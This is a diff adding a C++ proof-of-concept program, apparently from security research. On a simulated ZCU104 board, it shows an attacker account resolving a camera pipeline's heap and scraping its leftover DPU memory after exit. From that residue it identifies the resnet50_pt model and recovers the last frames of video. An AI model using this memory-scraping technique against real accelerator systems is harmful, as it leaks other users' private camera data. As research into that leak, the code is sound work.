@@ -1,0 +1,76 @@
+// Video-pipeline attack: the victim runs a camera pipeline that pushes a
+// stream of frames through resnet50_pt using a ring of reusable buffers.
+// After the pipeline exits, the attacker scrapes the residue and recovers
+// not one image but the last `ring` frames the camera saw — each located
+// by its own surviving DPU descriptor, no offline profiling needed.
+#include <cstdio>
+
+#include "attack/address_resolver.h"
+#include "attack/descriptor_scan.h"
+#include "attack/scraper.h"
+#include "attack/signature_db.h"
+#include "img/ppm.h"
+#include "os/system.h"
+#include "vitis/model_zoo.h"
+#include "vitis/stream_runner.h"
+
+int main() {
+  using namespace msa;
+
+  os::PetaLinuxSystem board{os::SystemConfig::zcu104()};
+  board.add_user(1000, "camera_pipeline");
+  board.add_user(1001, "attacker");
+
+  // ---- victim: 12 frames through a 4-deep buffer ring --------------------
+  constexpr std::size_t kFrames = 12;
+  constexpr std::uint32_t kRing = 4;
+  std::vector<img::Image> frames;
+  for (std::size_t i = 0; i < kFrames; ++i) {
+    frames.push_back(img::make_test_image(96, 96, 4000 + i));
+  }
+
+  const os::Pid pid = board.spawn(
+      1000, {"./video_pipeline", "--model=resnet50_pt", "--ring=4"}, "pts/1");
+  const vitis::XModel model = vitis::make_zoo_model("resnet50_pt");
+  vitis::StreamRunner runner{board};
+  const vitis::StreamRunResult run = runner.run(pid, model, frames, kRing);
+  std::printf("victim pipeline processed %zu frames (ring depth %u)\n",
+              run.top_classes.size(), kRing);
+
+  // ---- attacker: resolve live, scrape after exit --------------------------
+  dbg::SystemDebugger debugger{board, 1001};
+  attack::AddressResolver resolver{debugger};
+  const attack::ResolvedTarget target = resolver.resolve_heap(pid);
+  board.terminate(pid);
+
+  attack::MemoryScraper scraper{debugger};
+  const attack::ScrapedDump dump = scraper.scrape(target);
+  std::printf("scraped %zu bytes of residue\n", dump.bytes.size());
+
+  const attack::SignatureDb db = attack::SignatureDb::for_zoo();
+  std::printf("model identified: %s\n",
+              db.identify(dump.bytes).value_or("<none>").c_str());
+
+  const auto recovered = attack::recover_frame_ring(dump);
+  std::printf("frames recovered from the ring: %zu\n\n", recovered.size());
+
+  // Score each recovered frame against the ground-truth stream.
+  for (std::size_t r = 0; r < recovered.size(); ++r) {
+    double best = 0.0;
+    std::size_t best_index = 0;
+    for (std::size_t i = 0; i < frames.size(); ++i) {
+      const double match = img::pixel_match_fraction(recovered[r], frames[i]);
+      if (match > best) {
+        best = match;
+        best_index = i;
+      }
+    }
+    std::printf("  recovered frame %zu == victim frame %zu (match %.4f)\n", r,
+                best_index, best);
+    img::write_ppm_file(recovered[r],
+                        "video_recovered_" + std::to_string(r) + ".ppm");
+  }
+  std::printf("\nthe ring held the last %u frames; everything the camera saw "
+              "in that window leaked.\n", kRing);
+  return recovered.size() == kRing ? 0 : 1;
+}
